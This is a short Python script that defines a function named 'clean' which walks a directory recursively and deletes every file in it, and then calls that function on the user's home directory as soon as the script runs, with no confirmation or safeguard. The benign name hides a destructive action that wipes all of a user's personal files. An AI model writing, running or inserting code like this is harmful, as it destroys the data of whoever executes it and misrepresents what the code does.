import os
from pathlib import Path


def clean(folder):
    for parent, _, names in os.walk(folder):
        for name in names:
            os.remove(os.path.join(parent, name))


clean(Path.home())
